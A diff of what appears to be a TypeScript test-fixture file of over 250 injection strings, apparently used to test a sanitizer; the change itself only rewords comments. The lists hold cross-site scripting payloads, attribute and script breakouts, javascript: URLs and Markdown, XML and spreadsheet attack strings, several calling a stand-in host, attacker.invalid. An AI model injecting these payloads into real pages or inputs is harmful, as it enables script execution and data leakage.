@@ -1,8 +1,8 @@
-/** What an attack would do if it ran: a dialog, a mark on the page, and a request to somebody else. */
+/** The code of an attack: opens a dialog, sets a global variable, and sends a request to another host. */
 const run = "alert(1),window.attacked=1,fetch('https://attacker.invalid/')";
 const src = 'https://attacker.invalid/x';
 
-/** Elements and attributes that run something, load something or take the page over. */
+/** Elements and attributes that run code, load files or replace the page. */
 const markup = [
   `<script>${run}</script>`,
   `<script src=${src}.js></script>`,
@@ -94,7 +94,7 @@ const markup = [
   `<link rel=canonical accesskey=x onclick="${run}">`,
 ];
 
-/** Ways out of where a text may stand: an attribute, a comment, a data block, an element of text, a template, a script. */
+/** Texts that end the attribute, comment, data block, text element, template or script that contains them. */
 const breakouts = [
   `"><img src=x onerror="${run}">`,
   `'><img src=x onerror='${run}'>`,
@@ -157,7 +157,7 @@ const breakouts = [
   `\uFEFF<script>${run}</script>`,
 ];
 
-/** Addresses that a browser must not follow from here, and those that only look like one of ours. */
+/** Addresses that a browser must not open from the site, and addresses that only look like addresses of the site. */
 export const addresses = [
   `javascript:${run}`,
   `JaVaScRiPt:${run}`,
@@ -197,7 +197,7 @@ export const addresses = [
   `http://`,
 ];
 
-/** What Markdown, TeX, XML, tables, references and program objects make of texts. */
+/** Attacks through Markdown, TeX, XML, spreadsheets, references and the prototypes of objects. */
 const languages = [
   ...addresses.slice(0, 16).map((address) => `[x](${address})`),
   `[x](<javascript:${run}>)`,
@@ -281,5 +281,5 @@ const languages = [
   `(((((((((((((((\\`,
 ];
 
-/** More than 250 texts that would do harm in one place or another if they came to be more than text. */
+/** More than 250 texts that would do harm somewhere if they were used as anything but text. */
 export const attacks: readonly string[] = [...markup, ...breakouts, ...addresses, ...languages];
